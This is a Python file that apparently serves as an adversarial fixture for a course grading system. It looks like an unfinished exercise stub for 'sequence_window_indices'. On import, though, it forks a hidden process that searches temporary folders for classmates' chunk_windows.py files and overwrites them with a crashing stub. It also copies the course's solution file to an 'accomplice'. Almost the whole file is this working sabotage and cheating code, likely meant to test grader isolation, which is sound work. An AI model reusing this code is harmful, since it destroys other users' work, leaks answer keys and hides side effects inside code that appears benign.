"""During --jobs 2: a forked scanner rewrites classmates' chunk_windows.py in their scratch folders:
honest ones get a raising stub, the accomplice gets a correct solution."""
import os
import time
from pathlib import Path

BROKEN = "def sequence_window_indices(*a):\n    raise RuntimeError('coursekit_pwned')\n"


def _scan():
    if os.fork() != 0:
        return
    correct = ""
    try:
        import coursekit

        correct = (Path(coursekit.__file__).resolve().parents[1] / "solutions" / "chunk_windows.py").read_text()
    except Exception:
        pass
    end = time.time() + 20
    while time.time() < end:
        for root in ("/tmp", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
            try:
                for path in Path(root).glob("**/chunk_windows.py"):
                    accomplice = "accomplice" in str(path) or "ACCOMPLICE" in path.read_text()
                    path.write_text(correct if accomplice and correct else BROKEN)
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


_scan()


def sequence_window_indices(episode_ends, horizon, n_obs_steps, n_action_steps):
    raise NotImplementedError("Exercise 1.1 (chunk_windows): not done")

